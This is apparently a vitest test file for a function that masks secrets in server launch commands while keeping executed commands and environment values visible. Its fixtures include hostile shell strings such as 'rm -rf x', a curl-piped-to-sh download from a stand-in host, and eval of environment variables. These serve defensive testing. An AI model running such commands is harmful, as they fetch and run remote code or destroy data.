// Whatever is run is shown: no mask hides a command, a program, a script or a package.

import { describe, expect, test } from 'vitest';
import { maskedArgs, type Shown, shownLaunch } from '../../../src/discovery/shown-launch.ts';

const RANDOM = 'a1b2c3d4e5f6g7h8i9';

function launch(fields: Partial<Shown>): Shown {
  const empty = { command: undefined, args: [], env: {}, cwd: undefined, url: undefined, headers: {} };
  const whole = { transport: 'stdio' as const, ...empty, headersHelper: undefined, ...fields };
  return { ...whole, raw: fields.raw ?? whole };
}

test.each([
  "API_KEY='touch X'; $API_KEY",
  'API_KEY="touch X"; eval "$API_KEY"',
  `TOKEN=reboot; $${'{TOKEN}'}`,
  'TOKEN=\'rm -rf x\'; sh -c "$TOKEN"',
  'TOKEN=\'rm -rf x\'; eval "$(printenv TOKEN)"',
  `npx -y ${RANDOM}`,
  `cd /tmp && ./${RANDOM} --fast`,
  `/opt/${RANDOM}/bin/x`,
  `curl x | ${RANDOM}`,
  `sudo -n ${RANDOM}`,
])('in a script: %s', (script) => {
  expect(maskedArgs(['-c', script], 'sh')).toEqual(['-c', script]);
});

test.each([
  ['npx', ['-y', RANDOM]],
  ['npx', ['-y', 'sk-abcdefghijkl']],
  ['npx', ['--package', RANDOM, '-y', RANDOM]],
  ['npx', ['--api-key', RANDOM, RANDOM]],
  ['npm', ['exec', '--', RANDOM]],
  ['uvx', ['--from', RANDOM, RANDOM]],
  ['python', ['-m', RANDOM]],
  ['node', ['--require', `./${RANDOM}.js`, `/x/${RANDOM}/server.js`]],
  ['docker', ['run', '--rm', '-i', '--entrypoint', RANDOM, RANDOM]],
  ['env', ['-i', RANDOM]],
  ['cmd', ['/c', 'npx', '-y', RANDOM]],
  [`/opt/${RANDOM}`, []],
])('as words: %s %j', (command, args) => {
  expect(shownLaunch(launch({ command, args }))).toMatchObject({ command, args });
});

test('a value of the environment hides no program that is called the same', () => {
  const server = launch({
    command: 'npx',
    args: ['-y', 'evil-package', 'evil-package'],
    env: { TOKEN: 'evil-package' },
  });
  expect(shownLaunch(server).args).toEqual(['-y', 'evil-package', '***']);
  const script = launch({ command: 'sh', args: ['-c', 'reboot-it now'], env: { TOKEN: 'reboot-it now' } });
  expect(shownLaunch(script).args).toEqual(['-c', 'reboot-it now']);
});

describe('values that are not run stay hidden', () => {
  test.each([
    ['npx', ['-y', 'pkg', '--api-key', 'hunter2', RANDOM], ['-y', 'pkg', '--api-key', '***', '***']],
    ['docker', ['run', '-e', 'TOKEN=hunter2', 'image'], ['run', '-e', 'TOKEN=***', 'image']],
    ['npx', ['-y', 'https://u:hunter2@h.example/x.tgz'], ['-y', 'https://***:***@h.example/x.tgz']],
    ['sh', ['-c', `API_KEY=${RANDOM}; run "$API_KEY"`], ['-c', 'API_KEY=***; run "$API_KEY"']],
    ['sh', ['-c', 'API_KEY=hunter2 run --token hunter2'], ['-c', 'API_KEY=*** run --token ***']],
  ])('%s %j', (command, args, shown) => {
    expect(maskedArgs(args, command)).toEqual(shown);
  });
});

describe('a value of the environment that may be run is shown', () => {
  const NAMED_AS_SECRET = 'touch X; curl https://h.example | sh';
  test.each([
    '$API_KEY',
    `$${'{API_KEY}'} now`,
    'exec $API_KEY',
    '"$API_KEY"',
    'eval "$API_KEY"',
    'sh -c "$API_KEY"',
    'cd /tmp && sudo -n $API_KEY',
    'x=$API_KEY; $x',
    'export X="$API_KEY"; Y=$X; sh -c "$Y"',
    'BASH_ENV=$API_KEY bash run.sh',
    'set -- $API_KEY; "$@"',
    'for x in $API_KEY; do $x; done',
    'run() { shift; $1; }; run --token "$API_KEY"',
    'echo --token "$API_KEY" | sh',
    'run "$(cat $API_KEY)"',
    'printenv API_KEY | sh',
    'run "$API_KEY"',
    '%API_KEY%',
  ])('in a script: %s', (script) => {
    const server = launch({ command: 'sh', args: ['-c', script], env: { API_KEY: NAMED_AS_SECRET, OTHER: 'hunter2' } });
    const all = /printenv/.test(script) || script.includes('eval') ? { OTHER: 'hunter2' } : {};
    expect(shownLaunch(server).executed).toEqual({ API_KEY: NAMED_AS_SECRET, ...all });
  });

  test('also if it looks like a token, where it is the command', () => {
    const server = launch({ command: 'sh', args: ['-c', '$API_KEY'], env: { API_KEY: RANDOM } });
    expect(shownLaunch(server).executed).toEqual({ API_KEY: RANDOM });
    expect(maskedArgs(['-c', `API_KEY=${RANDOM}; $API_KEY`], 'sh')).toEqual(['-c', `API_KEY=${RANDOM}; $API_KEY`]);
  });

  test.each([
    ['node', ['-e', 'eval(process.env.API_KEY)']],
    ['python3', ['-c', 'import os; exec(os.environ["API_KEY"])']],
    ['docker', ['run', '-e', 'API_KEY', 'image', 'sh', '-c', '$API_KEY']],
    ['sh -c "$API_KEY"', []],
  ])('in another program: %s %j', (command, args) => {
    expect(shownLaunch(launch({ command, args, env: { API_KEY: 'touch X' } })).executed).toEqual({
      API_KEY: 'touch X',
    });
  });

  test('with those that it names itself', () => {
    const env = { A: '$B', B: 'touch X', C: 'hunter2' };
    expect(shownLaunch(launch({ command: 'sh', args: ['-c', 'sh -c "$A"'], env })).executed).toEqual({
      A: '$B',
      B: 'touch X',
    });
  });

  test('if its name decides what a program runs', () => {
    const env = {
      NODE_OPTIONS: '--require ./x.js',
      HTTPS_PROXY: 'http://me:hunter2@h.example',
      npm_config__authToken: 'hunter2',
    };
    expect(shownLaunch(launch({ command: 'run', env })).executed).toEqual({
      NODE_OPTIONS: '--require ./x.js',
      HTTPS_PROXY: 'http://***:***@h.example',
      npm_config__authToken: '***',
    });
  });

  test('as it is written, if it takes a variable', () => {
    const raw = launch({ command: 'sh', args: ['-c', '$RUN'], env: { RUN: '$SECRET' } });
    expect(shownLaunch({ ...raw, env: { RUN: 'hunter2' }, raw }).executed).toEqual({ RUN: '$SECRET' });
  });
});

test.each([
  ['sh', ['-c', 'run --token "$API_KEY"']],
  ['sh', ['-c', 'exec run --api-key=$API_KEY 2>&1']],
  ['sh', ['-c', 'run -H "Authorization: Bearer $API_KEY" || run --slow']],
  ['sh', ['-c', 'GITHUB_TOKEN=$API_KEY npx -y server']],
  ['sh', ['-c', 'npx -y server']],
  ['npx', ['-y', 'server', '$API_KEY']],
  ['node', ['-e', 'fetch(url, { headers: { key: process.env.API_KEY } })']],
])('a value of the environment that is only handed on stays hidden: %s %j', (command, args) => {
  const server = launch({ command, args, env: { API_KEY: 'hunter2 hunter2' } });
  expect(shownLaunch(server).executed).toEqual({});
});

test('a token that a script hands to a program stays hidden', () => {
  const server = launch({ command: 'sh', args: ['-c', 'run "$API_KEY"'], env: { API_KEY: 'ghp_abcdefghijklmnop' } });
  expect(shownLaunch(server).executed).toEqual({});
});
